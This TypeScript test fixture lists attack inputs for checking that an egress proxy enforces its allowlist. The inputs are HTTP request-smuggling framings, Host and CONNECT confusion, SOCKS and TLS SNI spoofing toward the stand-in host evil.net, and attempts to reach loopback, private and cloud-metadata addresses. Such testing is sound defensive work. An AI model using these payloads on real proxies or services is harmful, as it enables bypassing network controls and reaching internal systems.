import ipaddr from 'ipaddr.js'
import { forbiddenAddresses, hostForms, nameForms } from './forms.testing.ts'
import { furtherAddresses, furtherHostForms, furtherNameForms, oddBodies, oddRequests } from './further.testing.ts'
import { extension, hello, helloMessage, records, serverNames } from './tls.testing.ts'

/** Rules under which all attacks are made. Some grant what no rule can grant. */
export const attackRules = [
  { host: '*.example.org', port: 80, protocol: 'http' },
  { host: '*.example.org', port: 443, protocol: 'https' },
  { host: 'db.example.org', port: 5432, protocol: 'tcp' },
  { host: 'post.example.org', port: 80, protocol: 'http', methods: ['POST'] },
  { effect: 'deny', host: 'denied.example.org', protocol: 'tcp' },
  ...[
    '127.0.0.1',
    '10.0.0.5',
    '169.254.169.254',
    '[::1]',
    '[::ffff:127.0.0.1]',
    '[64:ff9b::a00:5]',
    'localhost',
  ].flatMap(host => [
    { host, port: 80, protocol: 'http' },
    { host, port: 22, protocol: 'tcp' },
    { host, port: 443, protocol: 'https' },
  ]),
]

export interface Attack {
  readonly name: string
  /** Each piece waits for an answer to the one before it. */
  readonly isStepwise?: boolean
  /** What goes to the proxy, piece after piece. */
  readonly sends: readonly Buffer[]
}

const latin = (text: string): Buffer => Buffer.from(text, 'latin1')
const utf8 = (text: string): Buffer => Buffer.from(text, 'utf8')
const attack = (name: string, ...sends: readonly (Buffer | string)[]): Attack => ({
  name,
  sends: sends.map(each => (typeof each === 'string' ? utf8(each) : each)),
})

const get = (host: string, more = ''): string => `GET http://${host}/ HTTP/1.1\r\nHost: good.example.org\r\n${more}\r\n`
const connect = (host: string, port: number | string): string =>
  `CONNECT ${host}:${port} HTTP/1.1\r\nHost: ${/[\r\n]/.test(host) ? 'x' : host}\r\n\r\n`
const socksGreeting = Buffer.from([5, 1, 0])
const portBytes = (port: number): Buffer => Buffer.from([port >> 8, port & 255])
const socksName = (name: string, port: number): Buffer => {
  const bytes = utf8(name).subarray(0, 255)
  return Buffer.concat([socksGreeting, Buffer.from([5, 1, 0, 3, bytes.length]), bytes, portBytes(port)])
}

/** Its name in the zone of the test resolves to exactly this address. */
export const nameOf = (address: string): string => `a${Buffer.from(address).toString('hex')}.example.org`
export const addressOf = (name: string): string | null => {
  const match = /^a([0-9a-f]+)\.example\.org$/.exec(name)
  return match ? Buffer.from(match[1] ?? '', 'hex').toString() : null
}

const literals = [...hostForms, ...furtherHostForms].flatMap(form => [
  attack(`http to ${form}`, get(form)),
  attack(`http to ${form} with a port`, get(`${form}:80`)),
  attack(`CONNECT ${form}`, connect(form, 22), 'SSH-2.0-x\r\n'),
  attack(`SOCKS name ${form}`, socksName(form, 22), 'SSH-2.0-x\r\n'),
])
const names = [...nameForms, ...furtherNameForms].flatMap(form => [
  attack(`http to name ${form.slice(0, 60)} of ${form.length}`, get(form)),
  attack(`CONNECT name ${form.slice(0, 60)} of ${form.length}`, connect(form, 443), hello('evil.net')),
  attack(`SOCKS to name ${form.slice(0, 60)} of ${form.length}`, socksName(form, 443), hello('evil.net')),
])
const resolved = [...forbiddenAddresses, ...furtherAddresses].flatMap(address => [
  attack(`a granted name that is ${address}, http`, get(nameOf(address))),
  attack(`a granted name that is ${address}, TLS`, connect(nameOf(address), 443), hello(nameOf(address))),
])

const good = 'good.example.org'
const post = (fields: string, body: string): string =>
  `POST http://${good}/ HTTP/1.1\r\nHost: ${good}\r\n${fields}\r\n${body}`
const hidden = `GET /hidden HTTP/1.1\r\nHost: evil.net\r\n\r\n`
const smuggling: Attack[] = [
  ...['GET', 'HEAD', 'OPTIONS', 'POST'].flatMap(method =>
    [
      `Content-Length: ${hidden.length}\r\n`,
      `Content-Length: 0\r\nContent-Length: ${hidden.length}\r\n`,
      `Content-Length: 0, ${hidden.length}\r\n`,
      `Content-Length: +${hidden.length}\r\n`,
      `Content-Length: 0x${hidden.length.toString(16)}\r\n`,
      `Content-Length : ${hidden.length}\r\n`,
      `Content-Length: ${hidden.length}\r\nTransfer-Encoding: chunked\r\n`,
      'Transfer-Encoding: chunked\r\n',
      'Transfer-Encoding : chunked\r\n',
      'Transfer-Encoding: xchunked\r\n',
      'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n',
      'Transfer-Encoding: identity, chunked\r\n',
      'Transfer-Encoding:\x0bchunked\r\n',
      'Transfer-Encoding: \x00chunked\r\n',
      'X: y\r\n Transfer-Encoding: chunked\r\n',
      'X: y\nTransfer-Encoding: chunked\r\n',
      'X: y\rTransfer-Encoding: chunked\r\n',
      'Connection: content-length\r\nContent-Length: 0\r\n',
    ].map((fields, index) =>
      attack(
        `${method} with framing ${index}: ${JSON.stringify(fields)}`,
        latin(`${method} http://${good}/ HTTP/1.1\r\nHost: ${good}\r\n${fields}\r\n0\r\n\r\n${hidden}`),
      ),
    ),
  ),
  attack('a second request behind the first', get(good), get('evil.net'), get(good)),
  attack('a second request in origin form', get(good) + hidden),
  attack('a request behind a refused one', get('evil.net') + get(good) + hidden),
  attack('a chunk whose size overflows', latin(post('Transfer-Encoding: chunked\r\n', `fffffffff\r\n${hidden}`))),
  attack('a chunk with a negative size', latin(post('Transfer-Encoding: chunked\r\n', `-1\r\n${hidden}`))),
  attack('two hosts', `GET http://${good}/ HTTP/1.1\r\nHost: ${good}\r\nHost: evil.net\r\n\r\n`),
  attack('another host', `GET http://${good}/ HTTP/1.1\r\nHost: evil.net\r\n\r\n`),
  attack('a host that Connection takes away', get(good, 'Connection: host, close\r\n')),
  attack('a host with a space before its colon', `GET http://${good}/ HTTP/1.1\r\nHost : evil.net\r\n\r\n`),
  attack('no host at all', `GET http://${good}/ HTTP/1.1\r\n\r\n`),
  attack('the password of the proxy', get(good, 'Proxy-Authorization: Basic c2VjcmV0\r\nProxy-X: secret\r\n')),
  attack('a field that Connection names', get(good, 'Connection: x-secret\r\nX-Secret: secret\r\n')),
  attack('a method that overrides', get(good, 'X-HTTP-Method-Override: DELETE\r\n')),
  attack('an upgrade', get(good, 'Connection: upgrade\r\nUpgrade: websocket\r\n')),
  attack(
    'an upgrade to HTTP/2',
    get(good, 'Connection: upgrade, http2-settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AA\r\n'),
  ),
  attack('an upgrade that the server grants', `GET http://${good}/switch HTTP/1.1\r\nHost: x\r\n\r\n`, hidden),
  attack('the greeting of HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  ...['HTTP/2.0', 'HTTP/1.2', 'HTTP/0.9', 'HTTP/1.1 ', 'HTTP/1.1\x0b', 'http/1.1', 'HTTP/1.1.1', ''].map(version =>
    attack(`version "${version}"`, `GET http://${good}/ ${version}\r\nHost: ${good}\r\n\r\n`),
  ),
  ...['TRACE', 'POST', 'PUT', 'PATCH', 'DELETE', 'get', 'G ET', 'PROPFIND', 'GET\t', ' GET', 'CONNECT'].map(method =>
    attack(`method ${method}`, `${method} http://${good}/ HTTP/1.1\r\nHost: ${good}\r\n\r\n`),
  ),
  ...['https', 'ftp', 'ws', 'file', 'gopher', 'http+unix', 'HTTP ', ''].map(scheme =>
    attack(`scheme ${scheme}`, `GET ${scheme}://evil.net/ HTTP/1.1\r\nHost: ${good}\r\n\r\n`),
  ),
  ...[
    '/',
    '*',
    '//evil.net/',
    'evil.net:80',
    'http:evil.net',
    'http:/evil.net/',
    'http:///evil.net/',
    'http:\\\\evil.net\\',
  ].map(target => attack(`target ${target}`, `GET ${target} HTTP/1.1\r\nHost: evil.net\r\n\r\n`)),
  attack('a head without an end', `GET http://${good}/ HTTP/1.1\r\nHost: ${good}\r\nX: ${'y'.repeat(200_000)}`),
  attack('more fields than anybody needs', get(good, 'X: y\r\n'.repeat(5000))),
  attack('lines that end in LF', `GET http://${good}/ HTTP/1.1\nHost: evil.net\n\n`),
  attack('a redirect inward', `GET http://${good}/redirect/http://10.0.0.5/ HTTP/1.1\r\nHost: x\r\n\r\n`),
  attack('a path that is a URL', `GET http://${good}/http://10.0.0.5/ HTTP/1.1\r\nHost: x\r\n\r\n`),
  attack('CONNECT to the port of plain http', connect(good, 80), hidden),
  attack('CONNECT with a body', `CONNECT ${good}:443 HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\n`, 'hello'),
  attack('CONNECT with a path', `CONNECT ${good}:443/ HTTP/1.1\r\nHost: x\r\n\r\n`, hello('evil.net')),
  attack('CONNECT with a URL', `CONNECT https://${good}:443 HTTP/1.1\r\nHost: x\r\n\r\n`, hello('evil.net')),
  attack('CONNECT without a port', `CONNECT ${good} HTTP/1.1\r\nHost: x\r\n\r\n`, hello('evil.net')),
  attack('CONNECT to another port', connect(good, 22), 'SSH-2.0-x\r\n'),
  attack('a denied name, http', get('denied.example.org')),
  attack('a denied name, TLS', connect('denied.example.org', 443), hello('denied.example.org')),
]

const requests: Attack[] = [
  ...oddRequests.map(([what, request]) => attack(what, latin(request.replaceAll('GOOD', good)))),
  ...oddBodies.map(([what, fields, body]) =>
    attack(
      `a body with ${what}`,
      latin(`POST http://post.example.org/ HTTP/1.1\r\nHost: post.example.org\r\n${fields}\r\n${body}`),
    ),
  ),
  ...['mixed', 'four-inside', 'six-inside', 'alias-inside', 'alias-localhost', 'many', 'none'].flatMap(name => [
    attack(`a granted name whose answer is odd: ${name}, http`, get(`${name}.example.org`)),
    attack(
      `a granted name whose answer is odd: ${name}, TLS`,
      connect(`${name}.example.org`, 443),
      hello(`${name}.example.org`),
    ),
    attack(
      `a granted name whose answer is odd: ${name}, SOCKS`,
      socksName(`${name}.example.org`, 443),
      hello('evil.net'),
    ),
  ]),
  ...['/interims', '/endless-head', '/odd-head', '/odd-chunk', '/two-answers', '/two-lengths'].map(path =>
    attack(`an answer that is odd: ${path}`, `GET http://${good}${path} HTTP/1.1\r\nHost: x\r\n\r\n`),
  ),
  ...[
    '0',
    '65536',
    '+443',
    '0443',
    '443 ',
    ' 443',
    '443x',
    '',
    '-443',
    '4.43e2',
    '0x1bb',
    '４４３',
    '443,22',
    '443:22',
  ].map(port => attack(`CONNECT to port "${port}"`, connect(good, port), hello('evil.net'))),
  ...['CONNECT', 'connect', 'CONNECT\t', 'Connect'].map(method =>
    attack(
      `${method} with a target of a request`,
      `${method} http://${good}:443/ HTTP/1.1\r\nHost: x\r\n\r\n`,
      hello('evil.net'),
    ),
  ),
  attack(
    'CONNECT in chunks',
    `CONNECT ${good}:443 HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n`,
    '0\r\n\r\n',
    hello('evil.net'),
  ),
  attack('CONNECT with userinfo', `CONNECT evil.net@${good}:443 HTTP/1.1\r\nHost: x\r\n\r\n`, hello('evil.net')),
  attack('CONNECT to two', `CONNECT ${good}:443,evil.net:443 HTTP/1.1\r\nHost: x\r\n\r\n`, hello('evil.net')),
  attack('CONNECT inside CONNECT', connect(good, 443), connect('evil.net', 22)),
  attack('CONNECT for a request', connect(good, 80), get('evil.net')),
  attack('CONNECT behind a request', get(good) + connect('evil.net', 443), hello('evil.net')),
  attack('a request behind CONNECT in one piece', connect(good, 443) + get('evil.net')),
  attack('TLS without CONNECT', hello(good)),
  attack('HTTP/2 as it begins', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0])),
  attack('a proxy protocol before it', `PROXY TCP4 10.0.0.5 10.0.0.5 1 80\r\n${get('evil.net')}`),
]

const tunnel = (name: string, ...sends: readonly (Buffer | string)[]): Attack =>
  attack(`in the tunnel: ${name}`, connect(good, 443), ...sends)
const named = (names: readonly (readonly [number, string])[], more = {}): Buffer =>
  records(helloMessage({ names, ...more }))
const bytewise = (data: Buffer): Buffer[] => Array.from(data, byte => Buffer.from([byte]))
const changeOfCipher = Buffer.from([20, 3, 3, 0, 1, 1])
const earlyData = Buffer.from([23, 3, 3, 0, 4, 1, 2, 3, 4])
/** The server behind this name asks everybody to greet again. */
const again = (name: string, ...sends: readonly (Buffer | string)[]): Attack[] =>
  greetedAgain('again.example.org', name, sends)
const greetedAgain = (host: string, name: string, sends: readonly (Buffer | string)[]): Attack[] => {
  const first = [connect(host, 443), hello(host)]
  return [
    { ...attack(`${name}, at once`, ...first, ...sends) },
    { ...attack(`${name}, when asked`, ...first, ...sends), isStepwise: true },
    { ...attack(`${name}, behind a change of cipher`, ...first, changeOfCipher, ...sends), isStepwise: true },
  ]
}
const greetings: Attack[] = [
  tunnel('another name', hello('evil.net')),
  tunnel('a name of the same wildcard', hello('other.example.org')),
  tunnel('no name', named([])),
  tunnel('an empty name', named([[0, '']])),
  tunnel(
    'two names',
    named([
      [0, good],
      [0, 'evil.net'],
    ]),
  ),
  tunnel(
    'two names the other way',
    named([
      [0, 'evil.net'],
      [0, good],
    ]),
  ),
  tunnel('a name of another kind', named([[1, good]])),
  tunnel(
    'a name of another kind first',
    named([
      [1, 'evil.net'],
      [0, good],
    ]),
  ),
  tunnel('the extension twice', named([[0, good]], { after: [serverNames([[0, 'evil.net']])] })),
  tunnel('the extension twice the other way', named([[0, good]], { before: [serverNames([[0, 'evil.net']])] })),
  tunnel('a hidden name', named([[0, good]], { after: [extension(0xfe0d, Buffer.alloc(64))] })),
  tunnel('a hidden name of the draft', named([[0, good]], { after: [extension(0xffce, Buffer.alloc(64))] })),
  ...[
    `${good}.`,
    `${good}\0evil.net`,
    ` ${good}`,
    `evil.net\0.${good}`,
    `${good}:443`,
    `*.example.org`,
    'example.org',
    '93.184.216.34',
  ].map(name => tunnel(`the name ${JSON.stringify(name)}`, hello(name))),
  tunnel('another name in single bytes', ...bytewise(hello('evil.net'))),
  tunnel('another name in records of one byte', records(helloMessage({ names: [[0, 'evil.net']] }), 1)),
  tunnel('another name behind a first record that is empty', Buffer.from([22, 3, 1, 0, 0]), hello('evil.net')),
  tunnel(
    'a second greeting in the same record',
    records(Buffer.concat([helloMessage({ names: [[0, good]] }), helloMessage({ names: [[0, 'evil.net']] })])),
  ),
  tunnel('a greeting cut short', hello(good).subarray(0, 60)),
  tunnel('a length that lies', Buffer.from([22, 3, 1, 0xff, 0xff]), hello(good)),
  tunnel('an old greeting', Buffer.from([0x80, 0x2e, 1, 0, 2, 0, 0x15, 0, 0, 0, 0x10])),
  tunnel('an alert first', Buffer.from([21, 3, 1, 0, 2, 1, 0]), hello('evil.net')),
  tunnel('plain HTTP', hidden),
  tunnel('SSH', 'SSH-2.0-OpenSSH_9.2\r\n'),
  tunnel('nothing'),
  tunnel('a second greeting in a record of its own', Buffer.concat([hello(good), hello('evil.net')])),
  tunnel('a second greeting in another piece', hello(good), hello('evil.net')),
  tunnel(
    'a second greeting behind a change of cipher',
    Buffer.concat([hello(good), changeOfCipher, hello('evil.net')]),
  ),
  tunnel('a second greeting behind early data', Buffer.concat([hello(good), earlyData, hello('evil.net')])),
  tunnel('a second greeting behind an alert', hello(good), Buffer.from([21, 3, 1, 0, 2, 1, 0]), hello('evil.net')),
  tunnel('plain HTTP behind a greeting', hello(good), hidden),
  tunnel('a heartbeat behind a greeting', hello(good), Buffer.from([24, 3, 3, 0, 3, 1, 255, 255]), hello('evil.net')),
  tunnel(
    'a key of another message first',
    records(Buffer.concat([Buffer.from([16, 0, 0, 0]), helloMessage({ names: [[0, 'evil.net']] })])),
  ),
  tunnel('a hidden name and a name', named([[0, good]], { before: [extension(0xfe0d, Buffer.from('evil.net'))] })),
  tunnel('names without a list', records(helloMessage({ after: [extension(0, Buffer.alloc(0))] }))),
  tunnel('a list without names', records(helloMessage({ after: [extension(0, Buffer.from([0, 0]))] }))),
  tunnel(
    'a list that lies about its length',
    records(helloMessage({ after: [extension(0, Buffer.from([0, 99, 0, 0, 4]))] })),
  ),
  tunnel('a name of 255 letters', hello(`${'a'.repeat(243)}.example.org`)),
  tunnel('a name with a port of another', hello(`evil.net:443@${good}`)),
  tunnel('a name in records of two versions', Buffer.concat([records(helloMessage({ names: [[0, 'evil.net']] }), 40)])),
  ...again('a second greeting that the server asks for', hello('evil.net')),
  ...greetedAgain('warns.again.example.org', 'a second greeting that the server warns of', [hello('evil.net')]),
  ...again('a second greeting without a name', named([])),
  ...again(
    'a second greeting with two names',
    named([
      [0, 'again.example.org'],
      [0, 'evil.net'],
    ]),
  ),
  ...again('a second greeting in single bytes', ...bytewise(hello('evil.net'))),
  ...again('a second greeting in records of one byte', records(helloMessage({ names: [[0, 'evil.net']] }), 1)),
  ...again(
    'a second greeting that hides a name',
    named([[0, 'again.example.org']], { after: [extension(0xfe0d, Buffer.from('evil.net'))] }),
  ),
  ...again('something else than a greeting', 'evil.net'),
  attack('another name sent before the answer', Buffer.concat([utf8(connect(good, 443)), hello('evil.net')])),
  attack('TLS to another name over SOCKS', socksName(good, 443), hello('evil.net')),
  attack('plain HTTP over SOCKS', socksName(good, 80), hidden),
]

const socks: Attack[] = [
  ...forbiddenAddresses
    .slice(0, 32)
    .map(address =>
      attack(
        `SOCKS to ${address}`,
        Buffer.concat([socksGreeting, Buffer.from([5, 1, 0, 1, ...address.split('.').map(Number)]), portBytes(22)]),
        'SSH',
      ),
    ),
  attack(
    'SOCKS to ::1',
    Buffer.concat([socksGreeting, Buffer.from([5, 1, 0, 4, ...Array(15).fill(0), 1]), portBytes(22)]),
    'x',
  ),
  attack(
    'SOCKS to ::ffff:127.0.0.1',
    Buffer.concat([
      socksGreeting,
      Buffer.from([5, 1, 0, 4, ...Array(10).fill(0), 255, 255, 127, 0, 0, 1]),
      portBytes(22),
    ]),
    'x',
  ),
  attack('SOCKS version 4', Buffer.from([4, 1, 0, 22, 127, 0, 0, 1, 0])),
  attack('SOCKS version 4a', Buffer.from([4, 1, 0, 22, 0, 0, 0, 1, 0, ...utf8('evil.net'), 0])),
  attack('SOCKS to be called back', Buffer.concat([socksGreeting, Buffer.from([5, 2, 0, 1, 10, 0, 0, 5, 0, 22])])),
  attack('SOCKS datagrams', Buffer.concat([socksGreeting, Buffer.from([5, 3, 0, 1, 10, 0, 0, 5, 0, 53])])),
  attack('SOCKS with a password', Buffer.from([5, 1, 2]), Buffer.from([1, 1, 97, 1, 97]), socksName('evil.net', 443)),
  attack(
    'SOCKS with a name that lies about its length',
    Buffer.concat([socksGreeting, Buffer.from([5, 1, 0, 3, 255]), utf8('evil.net'), portBytes(443)]),
  ),
  attack(
    'SOCKS with a name of no length',
    Buffer.concat([socksGreeting, Buffer.from([5, 1, 0, 3, 0]), portBytes(443)]),
  ),
  attack(
    'SOCKS with an unknown kind of address',
    Buffer.concat([socksGreeting, Buffer.from([5, 1, 0, 2, 10, 0, 0, 5, 0, 22])]),
  ),
  ...furtherAddresses
    .filter(address => address.includes(':'))
    .map(address =>
      attack(
        `SOCKS to ${address}`,
        Buffer.concat([
          socksGreeting,
          Buffer.from([5, 1, 0, 4, ...ipaddr.parse(address).toByteArray()]),
          portBytes(22),
        ]),
        'SSH',
      ),
    ),
  ...[
    'a'.repeat(255),
    `${'a.'.repeat(127)}a`,
    `evil.net${'\0'.repeat(100)}`,
    `good.example.org\0.evil.net`,
    `evil.net\0good.example.org`,
    '\0',
    '.',
    'GET http://evil.net/ HTTP/1.1',
  ].map((name, at) => attack(`SOCKS with an odd name ${at}`, socksName(name, 443), hello('evil.net'))),
  attack('SOCKS twice', socksName(good, 443), socksName('evil.net', 22), hello('evil.net')),
  attack('SOCKS without a way to greet', Buffer.from([5, 0]), socksName('evil.net', 22)),
  attack(
    'SOCKS with every way to greet but none',
    Buffer.from([5, 254, ...Array.from({ length: 254 }, (_, at) => at + 1)]),
  ),
  attack(
    'SOCKS with something reserved',
    Buffer.concat([socksGreeting, Buffer.from([5, 1, 1, 1, 93, 184, 216, 34, 0, 22])]),
  ),
  attack(
    'SOCKS of another version',
    Buffer.concat([socksGreeting, Buffer.from([4, 1, 0, 1, 93, 184, 216, 34, 0, 22])]),
  ),
  attack('SOCKS of version 4 inside 5', Buffer.concat([socksGreeting, Buffer.from([4, 1, 0, 22, 10, 0, 0, 5, 0])])),
  attack(
    'SOCKS with an unknown command',
    Buffer.concat([socksGreeting, Buffer.from([5, 0xf0, 0, 1, 10, 0, 0, 5, 0, 53])]),
  ),
  attack('a request behind the greeting of SOCKS', Buffer.concat([socksGreeting, utf8(get('evil.net'))])),
  attack('SOCKS in single bytes', ...bytewise(socksName('evil.net', 22))),
  attack('SOCKS to port 0', socksName(good, 0)),
  attack('SOCKS inside SOCKS', socksName(good, 443), socksName('evil.net', 22)),
]

export const attacks: readonly Attack[] = [
  ...literals,
  ...names,
  ...resolved,
  ...smuggling,
  ...requests,
  ...greetings,
  ...socks,
]
